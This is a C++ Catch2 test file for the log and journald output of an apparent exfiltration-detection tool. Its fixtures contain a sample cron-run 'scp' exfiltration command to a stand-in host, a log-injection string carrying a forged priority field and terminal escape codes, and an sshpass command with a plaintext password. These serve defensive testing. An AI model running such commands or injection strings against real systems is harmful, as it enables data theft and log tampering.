#include "auexfil/report/log_entry.hpp"

#include <algorithm>
#include <cstdint>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include <catch2/catch.hpp>

#include "sample.hpp"

using namespace auexfil;

namespace {

using Pairs = std::vector<std::pair<std::string, std::string>>;

/// As journald reads a datagram; empty when it is none.
Pairs parsed(std::string_view text) {
  Pairs fields;
  while (!text.empty()) {
    const std::size_t end = text.find('\n');
    if (end == std::string_view::npos || text.substr(0, end).find('=') != std::string_view::npos ||
        text.size() < end + 10) {
      return {};
    }
    const std::string name(text.substr(0, end));
    std::uint64_t length = 0;
    for (std::size_t i = 8; i-- > 0;) {
      length = length << 8U | static_cast<unsigned char>(text[end + 1 + i]);
    }
    if (length > text.size() - end - 10 || text[end + 9 + length] != '\n') {
      return {};
    }
    fields.emplace_back(name, std::string(text.substr(end + 9, length)));
    text.remove_prefix(end + 10 + length);
  }
  return fields;
}

Pairs sent(const policy::Finding& finding) {
  return parsed(to_journal(report::log_entry(finding)));
}

policy::Finding hostile() {
  const std::string evil =
      "x\nPRIORITY=0\nAUEXFIL_SEVERITY\n\x01\x00\x1b[2J" + std::string(1 << 20, 'y');
  policy::Finding finding = sample::finding();
  finding.rule = finding.tool = finding.role = evil;
  finding.host = finding.user = finding.auid_user = finding.script = evil;
  finding.job = facts::Job{evil, evil, {}};
  finding.command = std::vector<std::string>(100, evil);
  finding.chain = finding.command;
  finding.technique = finding.command;
  finding.destinations.assign(100, {evil, 22, 1, transfer::Basis::measured});
  return finding;
}

}  // namespace

TEST_CASE("log: the fields of a finding") {
  const Pairs wanted = {
      {"MESSAGE",
       "high bulk-unattended etl-01: 3.0 MiB (3,153,717 bytes) to 203.0.113.11:22 by scp from cron "
       "→ sh, user root, limit 1.0 MiB in 24 h (finding 00000000000000ab)"},
      {"PRIORITY", "3"},
      {"SYSLOG_FACILITY", "10"},
      {"SYSLOG_IDENTIFIER", "auexfil"},
      {"MESSAGE_ID", "ced0adaa0d2c4e2592dbd07aba46379a"},
      {"AUEXFIL_FINDING_ID", "00000000000000ab"},
      {"AUEXFIL_SEVERITY", "high"},
      {"AUEXFIL_RULE", "bulk-unattended"},
      {"AUEXFIL_HOST", "etl-01"},
      {"AUEXFIL_ROLE", "default"},
      {"AUEXFIL_START", "2026-12-02T01:02:01.113Z"},
      {"AUEXFIL_END", "2026-12-02T01:02:04.870Z"},
      {"AUEXFIL_BYTES", "3153717"},
      {"AUEXFIL_BASIS", "measured"},
      {"AUEXFIL_LIMIT_BYTES", "1048576"},
      {"AUEXFIL_DESTINATIONS", "1"},
      {"AUEXFIL_DESTINATION", "203.0.113.11:22"},
      {"AUEXFIL_TOOL", "scp"},
      {"AUEXFIL_USER", "root"},
      {"AUEXFIL_AUTOMATION", "unattended"},
      {"AUEXFIL_JOB", "cron: /bin/sh -c scp -q f drop@203.0.113.11:up/"},
      {"AUEXFIL_COMMAND", "scp -q f drop@203.0.113.11:up/"},
      {"AUEXFIL_TECHNIQUE", "T1071.002"},
      {"AUEXFIL_TECHNIQUE", "T1048"},
  };
  CHECK(sent(sample::finding()) == wanted);
}

TEST_CASE("log: what is not known has no field, and severities are priorities") {
  policy::Finding finding = sample::finding();
  finding.bytes_out = finding.limit_bytes = {};
  finding.host = finding.user = {};
  finding.job = {};
  constexpr std::string_view kGone[] = {"AUEXFIL_BYTES", "AUEXFIL_LIMIT_BYTES", "AUEXFIL_HOST",
                                        "AUEXFIL_USER", "AUEXFIL_JOB"};
  const Pairs fields = sent(finding);
  REQUIRE(!fields.empty());
  for (const std::string_view name : kGone) {
    CHECK(std::none_of(fields.begin(), fields.end(),
                       [&](const auto& field) { return field.first == name; }));
  }
  using policy::Severity;
  for (const auto& [severity, priority] :
       {std::pair(Severity::critical, 2U), std::pair(Severity::high, 3U),
        std::pair(Severity::medium, 4U), std::pair(Severity::low, 5U)}) {
    finding.severity = severity;
    CHECK(report::log_entry(finding).priority == priority);
  }
}

TEST_CASE("log: nothing that a log says makes a field, a line, or a large entry") {
  const report::LogEntry entry = report::log_entry(hostile());
  const std::string datagram = to_journal(entry);
  CHECK(datagram.size() < 64 << 10);
  const Pairs fields = parsed(datagram);
  const auto number_of = [&](std::string_view name) {
    return std::count_if(fields.begin(), fields.end(),
                         [&](const auto& field) { return field.first == name; });
  };
  REQUIRE(!fields.empty());
  CHECK(number_of("PRIORITY") == 1);
  CHECK(number_of("AUEXFIL_SEVERITY") == 1);
  CHECK(number_of("AUEXFIL_DESTINATION") == 8);
  CHECK(number_of("AUEXFIL_TECHNIQUE") == 8);
  for (const auto& [name, value] : fields) {
    CHECK(value.find_first_of(std::string_view("\n\r\x1b\0", 4)) == std::string::npos);
    if (name == "AUEXFIL_DESTINATIONS") {
      CHECK(value == "100");
    }
  }
  const std::string line = to_syslog(entry, 0, 7);
  CHECK(line.find('\n') == std::string::npos);
  CHECK(line.size() < 1024);
}

TEST_CASE("log: credentials are masked") {
  policy::Finding finding = sample::finding();
  finding.command = {"sshpass", "-p", "hunter2", "scp"};
  CHECK(to_journal(report::log_entry(finding)).find("hunter2") == std::string::npos);
  CHECK(to_journal(report::log_entry(finding, {false})).find("hunter2") != std::string::npos);
}

TEST_CASE("log: a line of syslog") {
  report::LogEntry entry;
  entry.priority = 5;
  entry.message = "what";
  const std::string line = to_syslog(entry, 1'796'173'321, 811);
  CHECK(line.starts_with("<85>Dec  "));
  CHECK(line.ends_with(" auexfil[811]: what"));
  CHECK(line.size() == std::string_view("<85>Dec  2 01:02:01 auexfil[811]: what").size());
  CHECK(report::left_out_entry(2).message == "and 2 findings that only the report tells");
}
